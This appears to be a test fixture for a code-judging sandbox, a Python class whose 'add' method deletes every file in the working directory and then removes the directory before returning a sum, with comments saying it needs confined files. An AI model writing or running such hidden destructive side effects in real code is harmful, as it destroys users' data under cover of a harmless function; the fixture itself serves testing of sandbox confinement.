# verdict: run-time error | wrong answer
# slow: another of its kind is in the default run
# why: removes the folder it stands in
# needs: files confined
import os
class Ledger:
    def add(self, a, b):
        for name in os.listdir("."): os.unlink(name)
        os.rmdir(os.getcwd())
        return a + b
